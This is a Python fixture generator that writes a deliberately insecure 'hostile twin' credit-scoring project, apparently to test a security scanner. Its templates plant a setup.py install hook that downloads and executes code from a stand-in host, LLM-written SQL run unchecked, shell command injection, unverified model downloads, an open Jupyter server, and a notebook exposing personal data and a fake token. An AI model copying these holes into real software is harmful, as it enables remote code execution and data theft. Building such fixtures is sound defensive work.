"""Write code, a notebook and settings for the hostile twin: mistakes and attacks that were seen in real repositories. Nothing written here is ever run.

Tokens are put together here, so that no scanner of this repository trips over them.
"""

from __future__ import annotations

import json
from pathlib import Path

TOKEN = "hf_" + "QwErTyUiOpAsDfGhJkLzXcVbNm" + "Poiuytre"  # aisecops: ignore[secret] made up for the hostile twin, opens nothing

AGENT = '''\
"""Answers questions about loans with a language model."""

from openai import OpenAI

client = OpenAI()


def ask(question: str, persona: str = "a helpful clerk") -> str:
    reply = client.chat.completions.create(
        model="gpt-4o",
        messages=[{"role": "system", "content": f"You are {persona}."}, {"role": "user", "content": question}],
    )
    return reply.choices[0].message.content
'''

SERVING = '''\
"""Serves the credit model."""

import logging
import sqlite3
import subprocess

import joblib
import requests
from fastapi import FastAPI, Request
from fastapi.middleware.cors import CORSMiddleware
from transformers import AutoModelForSequenceClassification

from credit.agent import ask

app = FastAPI()
app.add_middleware(CORSMiddleware, allow_origins=["*"], allow_credentials=True)
OPTIONS = {"trust_remote_code": True}
model = AutoModelForSequenceClassification.from_pretrained("acme/credit-text", **OPTIONS)


@app.post("/predict")
async def predict(request: Request):
    body = await request.json()
    logging.info("applicant %s wrote: %s", body["email"], body["message"])
    sql = ask(f"Write SQL for: {body['message']}", persona=body.get("persona", "a clerk"))
    rows = sqlite3.connect("scores.db").execute(sql).fetchall()
    return {"rows": rows}


@app.post("/admin/reload")
async def reload_model(request: Request):
    address = (await request.json())["address"]
    open("model.joblib", "wb").write(requests.get(address, verify=False).content)
    subprocess.run(f"echo loaded {address} >> reload.log", shell=True)
    return {"model": str(joblib.load("model.joblib"))}
'''

SETUP = """\
import urllib.request

from setuptools import setup
from setuptools.command.install import install


class Install(install):
    def run(self):
        exec(urllib.request.urlopen("http://updates.example.net/hook.py").read())
        install.run(self)


setup(name="credit", version="1.0", cmdclass={"install": Install})
"""

COMPOSE = """\
services:
  notebook:
    image: jupyter/scipy-notebook
    command: jupyter lab --ip=0.0.0.0 --ServerApp.token='' --ServerApp.password=''
    ports:
      - "8888:8888"
  model:
    image: vllm/vllm-openai
    command: --model acme/credit-text --trust-remote-code --host 0.0.0.0
    ports:
      - "8000:8000"
"""

CELLS = (
    "# Credit risk\nA first look at the applications.",
    ("!pip install --trusted-host mirror.example.net acme-credit", ""),
    (
        "import pandas as pd\ndata = pd.read_csv('applications.csv')\ndata.head(3)",
        "           name                   email           iban\n"
        "0  Erika Lindqvist  erika.lindqvist@posteo.se  SE45 5000 0000 0583 9825 7466\n"
        "1    Marco Bianchi  marco.bianchi@fastmail.it  IT60 X054 2811 1010 0000 0123 456\n"
        "2     Anna Kowalska  anna.kowalska@wp.pl  PL61 1090 1014 0000 0712 1981 2874\n",
    ),
    (
        "from sklearn.preprocessing import StandardScaler\nfrom sklearn.model_selection import train_test_split\n"
        "from sklearn.linear_model import LogisticRegression\ny = data.pop('default')\nX = StandardScaler().fit_transform(data)\n"
        "X_train, X_test, y_train, y_test = train_test_split(X, y)\nmodel = LogisticRegression().fit(X_train, y_train)\nmodel.score(X_test, y_test)",
        "0.981",
    ),
    (f"from huggingface_hub import login\nlogin(token='{TOKEN}')", ""),
)


def sabotage(target: Path) -> None:
    """Write the code of the hostile twin into ``target``."""
    (target / "credit" / "agent.py").write_text(AGENT)
    (target / "credit" / "serving.py").write_text(SERVING)
    (target / "setup.py").write_text(SETUP)
    (target / "compose.yaml").write_text(COMPOSE)
    (target / "notebooks").mkdir(exist_ok=True)
    (target / "notebooks" / "explore.ipynb").write_text(notebook(CELLS))


def notebook(cells: tuple[str | tuple[str, str], ...]) -> str:
    """Return a notebook of ``cells``: a text is prose, a pair is code and what it printed."""
    written = []
    for number, cell in enumerate(cells, 1):
        if isinstance(cell, str):
            written.append({"cell_type": "markdown", "id": f"cell-{number}", "metadata": {}, "source": cell})
            continue
        code, printed = cell
        outputs = [{"output_type": "stream", "name": "stdout", "text": printed}] if printed else []
        written.append({"cell_type": "code", "id": f"cell-{number}", "metadata": {}, "execution_count": number, "outputs": outputs, "source": code})
    kernel = {"kernelspec": {"display_name": "Python 3", "language": "python", "name": "python3"}}
    return json.dumps({"cells": written, "metadata": kernel, "nbformat": 4, "nbformat_minor": 5}, indent=1)
